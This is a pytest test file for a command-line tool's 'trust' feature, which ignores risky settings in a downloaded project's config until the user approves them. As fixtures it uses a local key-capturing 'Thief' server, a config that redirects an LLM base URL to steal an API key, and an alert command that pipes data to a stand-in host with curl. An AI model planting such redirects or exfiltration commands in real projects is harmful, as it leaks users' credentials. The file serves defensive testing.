"""`pincite trust`, and what a downloaded project can do before it is run."""

from __future__ import annotations

import io
import json
import os
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest
from cli_run import WRONG, Runner

KEY = "sk-very-secret-key"


class Thief(HTTPServer):
    """An endpoint that keeps what it is sent."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.keys: list[str | None] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}/v1"


class _Handler(BaseHTTPRequestHandler):
    server: Thief

    def do_POST(self) -> None:
        self.server.keys.append(self.headers["Authorization"])
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(400)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Keep quiet."""


@pytest.fixture
def thief(monkeypatch: pytest.MonkeyPatch) -> Iterator[Thief]:
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    with Thief() as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(autouse=True)
def own_folder(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path_factory.mktemp("own")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(folder))
    return folder


def test_a_downloaded_project_gets_no_key_before_it_is_trusted(
    pincite: Runner, thief: Thief, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("PINCITE_JUDGE")
    file = pincite.write(
        "pincite.toml",
        f'sources = ["docs"]\njudge = "llm:any"\n[llm]\nretry_attempts = 0\nbase_url = "{thief.url}"\n',
    )
    pincite.write("a.md", WRONG)
    with Thief() as gone:
        monkeypatch.setenv("OPENAI_BASE_URL", gone.url)  # where the user's own requests go
    done = pincite("check", "a.md", "--quiet", "--judge", "llm:mine")
    assert thief.keys == []
    assert done.err.count("warning: ") == 1
    assert f"{file} is not trusted, so these settings are ignored: judge, llm.base_url;" in done.err
    assert "`pincite trust`" in done.err and "--trust-config" in done.err
    assert pincite("trust").code == 0
    trusted = pincite("check", "a.md")
    assert set(thief.keys) == {f"Bearer {KEY}"}
    assert "warning" not in trusted.err


def test_a_downloaded_project_runs_no_program_before_it_is_trusted(pincite: Runner) -> None:
    keep = "import sys; open('told.json', 'w').write(sys.stdin.read())"
    pincite.write("pincite.toml", f"[alerts]\ncommand = {json.dumps([sys.executable, '-c', keep])}\n")
    missed = ("eval", "sample", "--answers", "sample:a", "--set", "evaluation.resamples=200", "-m", "hit@1")
    missed = (*missed, "--threshold", "hit@1=0.9", "--store", "none")
    assert pincite(*missed).code == 1
    assert not (pincite.folder / "told.json").exists()
    named = pincite(*missed, "--config", "pincite.toml")
    assert named.code == 2 and "`pincite trust pincite.toml` shows and allows them" in named.err
    assert not (pincite.folder / "told.json").exists()
    assert pincite(*missed, "--config", "pincite.toml", "--trust-config").code == 1
    assert (pincite.folder / "told.json").exists()


def test_trust_shows_what_it_is_asked_to_trust_without_secrets(pincite: Runner) -> None:
    pincite.write(
        "pincite.toml",
        'strict = true\n[alerts]\nwebhook = "https://ann:pw1@hooks.example.org/T0/pw2?token=pw3"\n'
        'command = ["curl", "-d", "@-", "https://other.example/pw4", "\\u001b[31mred"]\n',
    )
    done = pincite("trust")
    assert done.code == 0
    assert "  alerts.webhook = https://hooks.example.org/…\n" in done.out
    assert '"curl", "-d", "@-", "https://other.example/…"' in done.out
    assert "strict" not in done.out and "pw" not in done.out and "\x1b" not in done.out
    assert done.out.endswith(f"trusted {pincite.folder / 'pincite.toml'}\n")
    assert "it is already trusted" in pincite("trust").out


def test_a_person_at_a_terminal_is_asked_first(pincite: Runner, monkeypatch: pytest.MonkeyPatch) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    pincite.write("pincite.toml", "[alerts]\ncommand = ['true']\n")
    monkeypatch.setattr(sys, "stdin", Terminal("n\n"))
    no = pincite("trust")
    assert (no.code, no.out.splitlines()[-1]) == (1, "trust these settings? [y/N] nothing was trusted")
    monkeypatch.setattr(sys, "stdin", Terminal("y\n"))
    assert pincite("trust").code == 0
    assert "alerts.command" in pincite("trust", "--list").out


def test_a_change_has_to_be_trusted_again_and_the_command_says_so(pincite: Runner) -> None:
    pincite.write("pincite.toml", "[alerts]\ncommand = ['one']\n")
    assert pincite("trust").code == 0
    pincite.write("pincite.toml", "[alerts]\ncommand = ['two']\n")
    assert "has changed since it was trusted, so these settings are ignored" in pincite("explain").err
    assert "which has changed since it was trusted" in pincite("trust", "-y").out
    assert pincite("explain").err == ""


def test_trust_can_be_listed_and_removed_also_of_a_file_that_is_gone(pincite: Runner) -> None:
    assert pincite("trust", "--list").out == "no file is trusted\n"
    file = pincite.write("pincite.toml", "[alerts]\ncommand = ['true']\n")
    assert pincite("trust", str(file)).code == 0
    assert pincite("trust", "--list").out.startswith(f"{file}: alerts.command (since 20")
    file.unlink()
    assert pincite("trust", "--remove", str(file)).out == f"{file} is no longer trusted\n"
    assert pincite("trust", "--remove", str(file)).out == f"{file} was not trusted\n"
    assert pincite("trust", "--list").out == "no file is trusted\n"


def test_there_may_be_nothing_to_trust(pincite: Runner) -> None:
    pincite.write("pincite.toml", "strict = true\n")
    done = pincite("trust")
    assert done.code == 0 and "has no settings that need trust" in done.out
    pincite.write("other.yaml", "strict: true\n")
    assert "other.yaml has no settings that need trust" in pincite("trust", "other.yaml").out
    assert pincite("trust", "nowhere").code == 2
    (pincite.folder / "repository" / ".git").mkdir(parents=True)
    none = pincite("trust", "repository")
    assert none.code == 2 and "no configuration applies in repository" in none.err


def test_a_file_that_is_only_ever_named_can_be_trusted(pincite: Runner) -> None:
    pincite.write("pincite.toml", "strict = true\n")
    for name in ("other.yaml", "pyproject.toml"):
        text = "online: true\n" if name.endswith("yaml") else "[tool.pincite]\nonline = true\n"
        pincite.write(name, text)
        assert pincite("runs", "list", "--config", name).code == 2
        assert "online = true" in pincite("trust", name).out
        assert "not trusted" not in pincite("runs", "list", "--config", name).err
        assert pincite("trust", "--remove", name).code == 0
        assert "is inside the project and is not trusted" in pincite("runs", "list", "--config", name).err


@pytest.mark.parametrize("how", ["--config=x.md", "PINCITE_CONFIG"])
def test_a_key_goes_nowhere_because_of_a_file_that_was_named(
    pincite: Runner, thief: Thief, monkeypatch: pytest.MonkeyPatch, how: str
) -> None:
    pincite.write("x.md", f"judge: llm:any\nllm: {{retry_attempts: 0, base_url: '{thief.url}'}}\n")
    pincite.write("a.md", WRONG)
    monkeypatch.delenv("PINCITE_JUDGE")
    if how == "PINCITE_CONFIG":
        monkeypatch.setenv(how, "x.md")
    flags = ["--config=x.md"] if how != "PINCITE_CONFIG" else []
    done = pincite("check", "a.md", "--sources", "docs", *flags)
    assert (done.code, done.out, thief.keys) == (2, "", [])
    monkeypatch.setenv("PINCITE_TRUST_CONFIG", "1")
    pincite("check", "a.md", "--sources", "docs", *flags)
    assert set(thief.keys) == {f"Bearer {KEY}"}


def test_a_folder_that_cannot_be_written_is_an_error_in_one_line(pincite: Runner, own_folder: Path) -> None:
    (own_folder / "pincite").write_text("no folder")
    pincite.write("pincite.toml", "[alerts]\ncommand = ['true']\n")
    done = pincite("trust")
    assert done.code == 2
    assert "cannot remember a trusted file" in done.err and len(done.err.splitlines()) == 1


@pytest.mark.skipif(not hasattr(os, "chown") or os.getuid() != 0, reason="only root can give files away")
def test_trust_says_whose_the_file_is_when_it_is_somebody_elses(pincite: Runner) -> None:
    file = pincite.write("pincite.toml", "[alerts]\ncommand = ['true']\n")
    os.chown(file, 54321, 54321)
    assert "  note: the file belongs to user 54321, not to you\n" in pincite("trust").out


def test_one_command_tells_once_what_is_ignored(pincite: Runner) -> None:
    pincite.write("pincite.toml", "[alerts]\ncommand = ['true']\n")
    assert pincite("runs", "list").err.count("is not trusted") == 1
